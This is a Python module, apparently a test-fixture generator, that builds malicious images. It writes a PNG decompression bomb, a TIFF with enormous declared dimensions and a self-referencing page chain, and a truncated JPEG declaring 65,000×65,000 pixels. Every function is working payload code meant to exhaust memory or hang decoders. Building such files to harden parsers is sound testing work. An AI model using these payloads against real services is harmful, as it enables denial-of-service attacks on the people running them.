"""Pictures made to hurt whoever decodes them.

SPDX-License-Identifier: GPL-3.0-or-later
"""
import struct
import zlib


def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_png(path, side=60000):
    """60,000 times 60,000 grey pixels of nothing in 3.5 MB."""
    rows = zlib.compressobj(9)
    data = b""
    for _ in range(side // 100):
        data += rows.compress(bytes(side + 1) * 100)
    data += rows.flush()
    with open(path, "wb") as f:
        f.write(b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)) + _chunk(b"IDAT", data) + _chunk(b"IEND", b""))


def huge_tiff(path):
    """A TIFF that says it has 60,000 times 60,000 pixels of 48 bits, and 65,000 pages that are one."""
    entries = [(256, 4, 1, 60000), (257, 4, 1, 60000), (258, 3, 1, 16), (259, 3, 1, 1), (262, 3, 1, 2), (273, 4, 1, 8), (277, 3, 1, 3), (278, 4, 1, 60000), (279, 4, 1, 4)]
    ifd = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *e) for e in entries)
    with open(path, "wb") as f:
        f.write(b"II*\0" + struct.pack("<I", 12) + b"\0\0\0\0" + ifd + struct.pack("<I", 12))


def torn_jpeg(path):
    """A JPEG of 65,000 times 65,000 that ends after its head."""
    with open(path, "wb") as f:
        f.write(b"\xff\xd8\xff\xe0\x00\x10JFIF\0\1\1\0\0\1\0\1\0\0" + b"\xff\xc2\x00\x11\x08" + struct.pack(">HH", 65000, 65000) + b"\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
                + b"\0" * 20000)


FILES = {"huge.png": huge_png, "huge.tiff": huge_tiff, "torn.jpg": torn_jpeg}
